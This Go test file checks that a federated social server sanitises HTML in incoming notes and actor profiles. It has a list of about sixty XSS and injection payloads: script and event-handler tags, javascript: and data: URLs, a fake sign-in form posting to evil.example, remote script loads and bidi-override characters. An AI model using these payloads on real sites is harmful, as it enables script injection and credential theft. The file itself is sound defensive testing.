package federation

import (
	"encoding/json"
	"strings"
	"testing"

	"coopverse/directory"
	"coopverse/directory/storetest"

	"golang.org/x/net/html"
)

// attacks run a script, load something or pass for something else where a page shows them
// as they are. Many are from OWASP's cheat sheet and from Mastodon's, GoToSocial's and
// Misskey's own tests.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script >`,
	`<img src=x onerror=alert(1)>`, `<img """><script>alert("x")</script>">`, `<IMG SRC=javascript:alert('x')>`, `<img src="//evil.example/pixel.gif">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math href="javascript:alert(1)">x</math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="//evil.example/">x</a>`, `<a href="/sign-out">x</a>`,
	`<a href="https://x.example/" onclick="alert(1)" style="position:fixed;inset:0" class="button" id="main" target="_self">x</a>`,
	`<p style="background:url(javascript:alert(1))">x</p>`, `<p onmouseover=alert(1)>x</p>`, `<div style="position:fixed">x</div>`, `<style>@import'//evil.example/x.css';</style>`,
	`<iframe src="https://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="x"></object>`, `<embed src="x">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="//evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<form action="https://evil.example/"><input name=password><button>Sign in</button></form>`, `<button formaction="javascript:alert(1)">x</button>`,
	`<video src=x onerror=alert(1)></video>`, `<audio autoplay src="//evil.example/"></audio>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<body onload=alert(1)>`, `<template><script>alert(1)</script></template>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><x onclick=alert(1)>`, `</p></div></main><script>alert(1)</script>`, `"><script>alert(1)</script>`, `' onfocus=alert(1) autofocus '`,
	"<a href=\"https://x.example/\x00javascript:alert(1)\">x</a>", "<scr\x00ipt>alert(1)</script>", "\u202Egnp.exe", "\u2066hidden\u2069", `&#x202E;gnp.exe`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`,
	"<a href=\"https://x.example/?\u202E\">x</a>", `<xmp><p title="</xmp><script>alert(1)</script>">`, `<plaintext><script>alert(1)</script>`, `<textarea></textarea><script>alert(1)</script>`, `<title></title><script>alert(1)</script>`,
}

// harmful says what is wrong with HTML that we are to show, by reading it as a browser does.
func harmful(t *testing.T, shown string) string {
	t.Helper()
	document, err := html.Parse(strings.NewReader("<!doctype html><body><main>" + shown + "</main>"))
	if err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(shown, "\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\x00") {
		return "a character that nobody sees"
	}
	may := map[string]bool{"html": true, "head": true, "body": true, "main": true}
	for name := range strings.FieldsSeq("p br span a del pre blockquote code b strong i em u ul ol li") {
		may[name] = true
	}
	for n := range document.Descendants() {
		if n.Type == html.CommentNode || n.Type == html.ElementNode && (!may[n.Data] || n.Namespace != "") {
			return "<" + n.Data + ">"
		}
		for _, a := range n.Attr {
			switch {
			case n.Data == "a" && a.Key == "href" && (strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "http://")):
			case n.Data == "a" && (a.Key == "rel" && a.Val == "nofollow noreferrer noopener" || a.Key == "target" && a.Val == "_blank"):
			default:
				return n.Data + " " + a.Key + "=" + a.Val
			}
		}
	}
	return ""
}

// Whatever somebody writes into a note, an actor's name, or where its page is, what we keep
// of it for our pages is harmless.
func TestAttacksAreKeptHarmless(t *testing.T) {
	storetest.EachSeeded(t, func(t *testing.T, d *directory.Directory) {
		us, other := serveOurs(t, d), newOtherServer(t)
		ann := other.actor("ann")
		post, err := d.Publish(t.Context(), tester, "sange", directory.Draft{Text: "Hello"}, "test")
		if err != nil {
			t.Fatal(err)
		}
		for i, attack := range attacks {
			id := ann + "/notes/" + string(rune('a'+i%26)) + strings.Repeat("x", i/26)
			note := map[string]any{
				"id": id, "type": "Article", "attributedTo": ann, "inReplyTo": us.site.Post("sange", post.ID), "to": everyone,
				"content": attack, "contentMap": map[string]string{attack: attack}, "summary": attack, "name": attack, "url": attack, "language": attack, "sensitive": true,
			}
			if status, answer := us.post("/inbox", activityJSON(id+"#create", "Create", ann, note), other.keys[ann], nil); status != 202 {
				t.Errorf("%q: %d %s", attack, status, answer)
				continue
			}
			reply, err := d.ReplyByID(t.Context(), id)
			if err != nil {
				t.Errorf("%q: %v", attack, err)
				continue
			}
			if wrong := harmful(t, reply.Content); wrong != "" {
				t.Errorf("%q is shown as %q, with %s", attack, reply.Content, wrong)
			}
			if strings.ContainsAny(reply.Warning+reply.Language, "\u202E\u2066\x00") || !strings.HasPrefix(reply.URL, "http") {
				t.Errorf("%q: warning %q, language %q, page %q", attack, reply.Warning, reply.Language, reply.URL)
			}
		}
	})
	for _, attack := range attacks {
		document, _ := json.Marshal(map[string]any{
			"id": "https://peer.example/u", "inbox": "https://peer.example/i", "name": attack, "preferredUsername": attack, "url": attack,
			"publicKey": map[string]any{"id": "https://peer.example/u#k", "owner": "https://peer.example/u", "publicKeyPem": "x"},
		})
		actor, err := readActor(document)
		if err != nil {
			t.Fatal(err)
		}
		peer, err := actor.peer("")
		if err != nil || strings.ContainsAny(peer.Name+peer.Handle, "\u202E\u2066\x00") || peer.URL != "" && !strings.HasPrefix(peer.URL, "http") {
			t.Errorf("%q: name %q, page %q, %v", attack, peer.Name, peer.URL, err)
		}
	}
}
